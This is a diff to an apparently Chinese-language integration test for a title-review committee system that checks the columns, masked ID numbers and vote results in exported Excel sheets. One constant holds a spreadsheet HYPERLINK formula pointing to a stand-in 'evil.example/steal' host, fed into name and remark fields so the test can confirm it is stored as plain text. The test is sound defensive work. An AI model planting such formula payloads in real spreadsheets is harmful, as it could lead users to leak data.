@@ -12,7 +12,6 @@ import openpyxl
 import pypdf
 
 from shared.contracts import ApplicationSubmitted
-from shared.privacy import mask_id_number
 from tests.integration.committee.test_committee_flow import CITY_ROUTE, OFFICE, tally
 from tests.support.committee import CommitteeSystem
 from tests.support.departments import Department, submitted_event, through_review
@@ -21,16 +20,18 @@ from tests.support.polling import eventually
 HYPERLINK = '=HYPERLINK("http://evil.example/steal","点击查看")'
 
 
-def _event(name: str, employer: str, profession: str, remark: str = "") -> ApplicationSubmitted:
+def _event(
+    name: str, unit: str, profession: str, remark: str = "", **roster_form: Any
+) -> ApplicationSubmitted:
     event = submitted_event(
         kind="public",
         region_code="330100",
         name=name,
-        employer=employer,
+        employer=unit,
         profession=profession,
     )
     assert event.forms is not None
-    roster = event.forms.roster.model_copy(update={"remark": remark})
+    roster = event.forms.roster.model_copy(update={"remark": remark, **roster_form})
     return event.model_copy(update={"forms": event.forms.model_copy(update={"roster": roster})})
 
 
@@ -150,9 +151,17 @@ async def test_the_preview_is_exactly_the_batch_and_the_sheets_have_every_field(
     unit = f"{HYPERLINK}{uuid.uuid4().hex[:4]}"
     cases = {}
     for name in ("冯预览", "陈预览", "褚预览"):
-        office, cases[name] = await _arrive(
-            committee, _event(name, unit, "建筑工程施工", remark=HYPERLINK)
+        # the 花名册 form says the unit and number its own way: the sheets must follow the form,
+        # not the case record (the applicant's and employer's facts)
+        event = _event(
+            name,
+            unit,
+            "建筑工程施工",
+            remark=HYPERLINK,
+            employer=f"{unit}第一分公司",
+            id_number="330102********5678",
         )
+        office, cases[name] = await _arrive(committee, event)
         assert (await office.post(f"/cases/{cases[name]}/receive")).status_code == 200
     created = await office.post(
         "/meetings",
@@ -209,16 +218,17 @@ async def test_the_preview_is_exactly_the_batch_and_the_sheets_have_every_field(
     assert "共 1 人" in title
     assert [c.value for c in sheet[3]] == [
         "序号", "姓名", "性别", "出生日期", "身份证号码", "工作单位", "推荐单位", "学历",
-        "现从事专业", "现专业技术资格", "取得时间", "从事本专业年限", "申报资格", "评审会日期",
-        "出席人数", "赞成票", "反对票", "弃权票", "备注",
+        "评审系列", "现从事专业", "现专业技术资格", "取得时间", "从事本专业年限", "申报资格",
+        "评审会日期", "出席人数", "赞成票", "反对票", "弃权票", "备注",
     ]  # fmt: skip
     [case] = sent.json()["cases"]
     row = [c.value for c in sheet[4]]
     assert row == [
-        1, "冯预览", "男", datetime(1985, 3, 12), mask_id_number("330106********1234"), unit,
-        case["sent_by"]["name"], "大学本科", "建筑工程施工", "工程师", datetime(2015, 6, 1), 17,
-        "高级工程师", datetime(2026, 11, 23), 10, 8, 2, 0, HYPERLINK,
+        1, "冯预览", "男", datetime(1985, 3, 12), "330102************", f"{unit}第一分公司",
+        case["sent_by"]["name"], "大学本科", "工程技术（建设工程）", "建筑工程施工", "工程师",
+        datetime(2015, 6, 1), 17, "高级工程师", datetime(2026, 11, 23), 10, 8, 2, 0, HYPERLINK,
     ]  # fmt: skip
+    assert case["employer_name"] == unit, "the case record names the employer as the facts do"
     _assert_text_not_formula(sheet)
     _assert_ready_to_print(sheet, header="3")
 
@@ -228,13 +238,13 @@ async def test_the_preview_is_exactly_the_batch_and_the_sheets_have_every_field(
         "（评审会日期 2026-11-23，在册委员 11 人，到会委员 10 人）"
     )
     assert [c.value for c in votes_sheet[3]] == [
-        "序号", "姓名", "性别", "身份证号码", "工作单位", "推荐单位", "现从事专业", "申报资格",
-        "出席人数", "赞成票", "反对票", "弃权票", "结果", "更正理由", "更正前得票",
+        "序号", "姓名", "性别", "身份证号码", "工作单位", "推荐单位", "评审系列", "现从事专业",
+        "申报资格", "出席人数", "赞成票", "反对票", "弃权票", "结果", "更正理由", "更正前得票",
     ]  # fmt: skip
     lines = {r[1]: r for r in votes_sheet.iter_rows(min_row=4, values_only=True)}
     assert set(lines) == set(cases)
-    assert lines["冯预览"][8:] == (10, 8, 2, 0, "通过", None, None)
-    assert lines["陈预览"][8:] == (
+    assert lines["冯预览"][9:] == (10, 8, 2, 0, "通过", None, None)
+    assert lines["陈预览"][9:] == (
         10,
         4,
         6,
@@ -243,12 +253,11 @@ async def test_the_preview_is_exactly_the_batch_and_the_sheets_have_every_field(
         "复核计票",
         "第1次：出席10 赞成5 反对5 弃权0",
     )
-    assert lines["褚预览"][8:] == (9, 7, 2, 0, "通过", None, None)
-    assert lines["冯预览"][3:6] == (
-        mask_id_number("330106********1234"),
-        unit,
-        case["sent_by"]["name"],
-    )
+    assert lines["褚预览"][9:] == (9, 7, 2, 0, "通过", None, None)
+    assert lines["冯预览"][:9] == (
+        1, "冯预览", "男", "330102************", f"{unit}第一分公司", case["sent_by"]["name"],
+        "工程技术（建设工程）", "建筑工程施工", "高级工程师",
+    )  # fmt: skip
     _assert_text_not_formula(votes_sheet)
     _assert_ready_to_print(votes_sheet, header="3")
 
